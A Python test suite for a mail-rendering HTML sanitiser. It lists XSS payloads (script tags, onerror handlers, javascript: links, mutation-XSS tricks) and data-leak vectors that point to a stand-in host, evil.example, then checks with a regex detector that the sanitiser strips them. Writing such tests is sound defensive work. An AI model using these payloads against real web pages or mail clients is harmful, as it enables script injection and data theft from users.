"""The first wall: what the sanitiser leaves of hostile HTML."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relayd.rendering.sanitise import picture_address, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<img srcset="https://evil.example/x 2x" src="https://evil.example/x">',
    '<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>',
    '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<input type=image src=https://evil.example/x><button formaction=javascript:alert(1)>x</button>",
    '<a href="https://ok.example" ping="https://evil.example">x</a>',
    "<!--<img src=--><img src=x onerror=alert(1)//>-->",
]
BAD = re.compile(
    r"<(?:script|style|svg|math|form|input|button|meta|base|link|iframe|object|embed|video|source|noscript)|\son\w+\s*=|"
    r"javascript:|url\(|position|evil\.example|srcset|ping=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_loses_what_is_hostile(html):
    assert not BAD.search(sanitise(html, {}, 0).html)


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<p>", "</p>", "<b", '"', "'", ">", "<!--", "-->", "</svg>", "text"]), max_size=12
    )
)
def test_pieces_of_hostile_html_do_not_add_up(pieces):
    html = sanitise("".join(pieces), {}, 0).html
    text_only = re.sub(r'"[^"]*"', '""', html)  # what stands in an attribute's value is text
    assert not re.search(
        r"<(?:script|style|svg|math|form|meta|base|link|iframe|object|embed)|<[^>]*\son\w+=", text_only, re.I
    )


def test_ordinary_mail_keeps_its_looks():
    html = '<h2 style="color:#333;font-weight:bold">Kop</h2><table border="1"><tr><td colspan="2">x</td></tr></table>'
    kept = sanitise(html + '<a href="https://zuid.example/">site</a>', {}, 0).html
    assert "color:#333" in kept
    assert 'colspan="2"' in kept
    assert 'href="https://zuid.example/"' in kept
    assert 'rel="noopener noreferrer"' in kept
    assert 'target="_blank"' in kept


@pytest.mark.parametrize("address", ["/v/x", "?lang=en", "//evil.example", "/\\\\evil.example", "x", "../s/x", "cid/x"])
def test_no_link_leads_into_our_own_site(address):
    assert "href" not in sanitise(f'<a href="{address}">hier</a>', {}, 0).html


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n....", "png"),
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"GIF89a..", "gif"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8", "webp"),
    ],
)
def test_pictures_are_known_by_their_octets(data, kind):
    assert picture_address(data).startswith(f"data:image/{kind};base64,")


@pytest.mark.parametrize("data", [b"<svg xmlns=''>", b"<html>", b"", b"%PDF", b"BM"])
def test_what_is_no_safe_picture_is_not_shown(data):
    assert picture_address(data) is None
